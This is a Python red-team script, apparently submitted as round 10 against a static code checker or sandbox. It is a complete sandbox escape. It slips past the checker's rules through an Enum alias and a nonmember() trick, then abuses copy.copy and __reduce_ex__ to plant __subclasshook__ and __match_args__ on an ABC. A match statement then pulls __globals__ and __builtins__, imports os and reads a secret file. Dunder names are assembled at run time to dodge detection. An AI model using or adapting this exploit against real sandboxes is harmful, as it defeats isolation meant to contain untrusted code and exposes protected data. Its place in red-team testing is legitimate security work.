# family: red team, round 10 (enum_alias_nonmember_functional_api)
# The Enum functional API is judged on calls spelled with the tool's Enum class name; an alias of that class is
# not. A member-less Enum passes the "has members" rule with a nonmember() assignment. Alias("R", names) with
# run-time dunder names makes a class with __reduce_ex__ (and __copy__ = None): copy.copy() -> setattr.
import abc
import copy
import enum


class Base(enum.Enum):
    helper = enum.nonmember(0)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    factory = Base
    made = factory("R", {_d("reduce_ex"): reducer, _d("copy"): None, "ONE": 1})
    copy.copy(made.ONE)


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
